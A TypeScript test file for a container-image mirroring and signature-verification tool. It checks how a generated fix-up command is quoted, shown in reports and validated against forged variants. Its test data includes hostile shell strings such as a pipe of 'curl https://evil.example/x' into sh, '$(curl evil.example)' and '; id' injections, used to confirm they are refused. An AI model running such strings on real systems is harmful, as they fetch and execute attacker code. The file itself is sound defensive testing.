/** The command that fixes a difference: whole wherever it is shown, and one line for a shell. */

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { test } from 'node:test';
import { isMirrorCommand } from '../../src/drift/commands.ts';
import { differenceIssues } from '../../src/drift/issue-topics.ts';
import { longestCommand } from '../../src/oci/shell-word.ts';
import { driftAnnotations } from '../../src/report/drift/annotations.ts';
import { formatIssue } from '../../src/report/drift/issue.ts';
import { formatDriftPage } from '../../src/report/drift/page.ts';
import { formatDriftSummary } from '../../src/report/drift/summary.ts';
import { formatDrift } from '../../src/report/drift/terminal.ts';
import { mirrorCommand } from '../../src/verify/mirror-command.ts';
import type { PolicyReport } from '../../src/verify/report.ts';
import * as samples from './drift-samples.ts';
import { digest } from './samples.ts';

const long = { registry: 'registry.example', path: 'a'.repeat(255 - 'registry.example/'.length) };

const key = {
  kind: 'key' as const,
  fingerprint: 'ab'.repeat(32),
  algorithm: 'ecdsa-p256' as const,
  name: 'team keys/a.pub',
  pinned: true,
};
const policy: PolicyReport = {
  ...samples.fine().policy,
  signers: [key],
  trustedRoots: [{ source: 'root.json' }],
  transparencyLog: 'ignored',
  signatureRepository: `registry.example/${long.path}`,
};

function command(fields: Partial<Parameters<typeof mirrorCommand>[0]> = {}): string {
  const made = mirrorCommand({
    source: long,
    digest: digest('index'),
    target: long,
    tag: 't'.repeat(128),
    moves: true,
    deep: true,
    policy,
    insecureHosts: [],
    ...fields,
  });
  assert.ok(made);
  return made;
}

test('the longest one that there can be is whole, everywhere', () => {
  const fix = command({ policy: { ...policy, signers: [{ ...key, name: 'team.pub' }] } });
  assert.ok(fix.length > 1000);
  const { history, ...report } = { ...samples.fine(), history: samples.historyOf(samples.fine()) };
  const difference = { ...samples.rolledBack(), fix };
  const drifted = { ...report, state: 'drift', exitCode: 20, differences: [difference] } as const;
  for (const text of [
    formatDrift(drifted, { color: false }),
    formatDriftPage(drifted, history),
    formatDriftSummary(drifted),
    ...differenceIssues(drifted).map((one) => formatIssue(one, undefined).body),
    driftAnnotations(drifted, true)[0]?.message ?? '',
  ]) {
    assert.ok(text.includes(fix), text.slice(0, 80));
  }
});

test('threat 123: a shell sees the words that were meant, whatever they hold', () => {
  for (const odd of ['$(touch x)', "it's", 'a b', '`id`', '; id', '*', '~root', '"', '\\', '']) {
    const { status, stdout } = spawnSync('sh', ['-c', `printf '%s\\n' ${command({ tag: odd })}`], {
      encoding: 'utf8',
    });
    assert.equal(status, 0);
    const target = stdout.split('\n')[3];
    assert.equal(target, `registry.example/${long.path}:${odd}`);
  }
});

test('a command demands what the run demanded', () => {
  const short = {
    source: { registry: 'a.example', path: 'a' },
    target: { registry: 'b.example:5000', path: 'b' },
  };
  const made = (policy: PolicyReport, insecureHosts: readonly string[] = []) =>
    command({ ...short, tag: '1.0.0', moves: false, deep: false, policy, insecureHosts }).replace(
      `webdis-trust mirror a.example/a@${digest('index')} b.example:5000/b:1.0.0`,
      '…',
    );
  const plain: PolicyReport = {
    ...samples.fine().policy,
    trustedRoots: [{ source: 'the embedded public-good root (1)' }],
  };
  const of = (name: string, more = {}) => ({ ...plain, signers: [{ ...key, name, ...more }] });
  const pinned = `--key-fingerprint ${key.fingerprint}`;
  assert.equal(made(plain), '… --require verified');
  assert.equal(made(of('cosign.pub')), `… --key cosign.pub ${pinned}`);
  assert.equal(made(of('env://KEY')), `… --key env://KEY ${pinned}`);
  assert.equal(made(of('the key given inline')), `… --key cosign.pub ${pinned}`);
  assert.equal(made(of('inline key 2')), `… --key cosign.pub ${pinned}`);
  assert.equal(
    made(of('old.pub', { notAfter: '2026-12-31T23:59:59.999Z' })),
    `… --key 'old.pub not-after=2026-12-31' ${pinned}`,
  );
  assert.equal(
    made({
      ...plain,
      trustedRoots: [{ source: 'a root.json' }],
      transparencyLog: 'ignored',
      signatureRepository: 'c.example/s',
    }),
    "… --require verified --trusted-root 'a root.json' --insecure-ignore-tlog --signature-repository c.example/s",
  );
  assert.equal(
    made(plain, ['b.example:5000', 'c.example']),
    '… --require verified --insecure-registry b.example:5000',
  );
});

test('a command that would be cut off is not written', () => {
  const signers = Array.from({ length: 100 }, () => key);
  const made = mirrorCommand({
    source: long,
    digest: digest('index'),
    target: long,
    tag: 't',
    moves: false,
    deep: false,
    policy: { ...policy, signers },
    insecureHosts: [],
  });
  assert.equal(made, undefined);
  assert.ok(command().length < longestCommand);
});

const scope = {
  difference: { registry: 'b.example/b', tag: '1.0.0' },
  policy,
  registries: [{ name: 'a.example/a' }, { name: 'b.example/b', insecure: true }],
};
const own = command({
  source: { registry: 'a.example', path: 'a' },
  target: { registry: 'b.example', path: 'b' },
  tag: '1.0.0',
  insecureHosts: ['b.example'],
});

test('threat 123: a command that this tool writes is taken, in any order of its flags', () => {
  assert.ok(isMirrorCommand(own, scope));
  const words = own.split(' ');
  const [program, verb, from, to, ...flags] = words;
  assert.ok(isMirrorCommand([program, verb, ...flags, from, to].join(' '), scope));
});

const hostile: readonly (readonly [string, (command: string) => string])[] = [
  ['another program', () => 'curl https://evil.example/x | sh'],
  ['a program behind it', (one) => `${one}; curl evil.example`],
  ['a program in it', (one) => one.replace('--deep', '$(curl evil.example)')],
  ['a pipe', (one) => `${one} | sh`],
  ['a line break', (one) => `${one}\ncurl evil.example`],
  ['a comment in front', (one) => `# ${one}`],
  ['a variable in front', (one) => `PATH=/tmp ${one}`],
  ['another verb', (one) => one.replace(' mirror ', ' sign ')],
  ['another name for the program', (one) => one.replace('webdis-trust', './webdis-trust')],
  [
    'a source that is no registry of the check',
    (one) => one.replace('a.example/a@', 'evil.example/a@'),
  ],
  ['a source without a digest', (one) => one.replace(/@sha256:\w+/, ':1.0.0')],
  ['a target on another registry', (one) => one.replace('b.example/b:', 'a.example/a:')],
  ['a target with another tag', (one) => one.replace(':1.0.0', ':latest')],
  ['a layout as target', (one) => one.replace('b.example/b:1.0.0', 'oci:/home')],
  ['a third place', (one) => `${one} c.example/c`],
  ['no target', (one) => one.replace(' b.example/b:1.0.0', '')],
  ['another key', (one) => one.replace('a.pub', 'evil.pub')],
  ['one key more', (one) => `${one} --key evil.pub`],
  ['no key', (one) => one.replace(/--key '[^']*' /, '')],
  ['no pin', (one) => one.replace(/--key-fingerprint \w+ /, '')],
  ['another pin', (one) => one.replace('abab', 'cdcd')],
  ['no trusted root', (one) => one.replace('--trusted-root root.json ', '')],
  ['another trusted root', (one) => one.replace('root.json', '/tmp/evil.json')],
  ['no demand at all', (one) => `${one} --require none`],
  ['http to another host', (one) => `${one} --insecure-registry a.example`],
  ['certificates', (one) => `${one} --registry-cacert /tmp/evil.pem`],
  ['quotes that end elsewhere', (one) => one.replace("'team keys/a.pub'", "team' 'keys/a.pub")],
  ['an open quote', (one) => `${one} '`],
  ['two spaces', (one) => one.replace(' --deep', '  --deep')],
  ['nothing', () => ''],
];

for (const [what, change] of hostile) {
  test(`threat 123: ${what} in a command of a forged report is refused`, () => {
    const changed = change(own);
    assert.notEqual(changed, own);
    assert.equal(isMirrorCommand(changed, scope), false, changed);
  });
}

test('threat 123: a command may ignore the log only where the run did', () => {
  const held = { ...scope, policy: { ...policy, transparencyLog: 'required' } as const };
  assert.equal(isMirrorCommand(own, held), false);
  assert.ok(isMirrorCommand(own.replace('--insecure-ignore-tlog ', ''), held));
  assert.equal(isMirrorCommand(own, { ...scope, difference: { registry: 'b.example/b' } }), false);
});
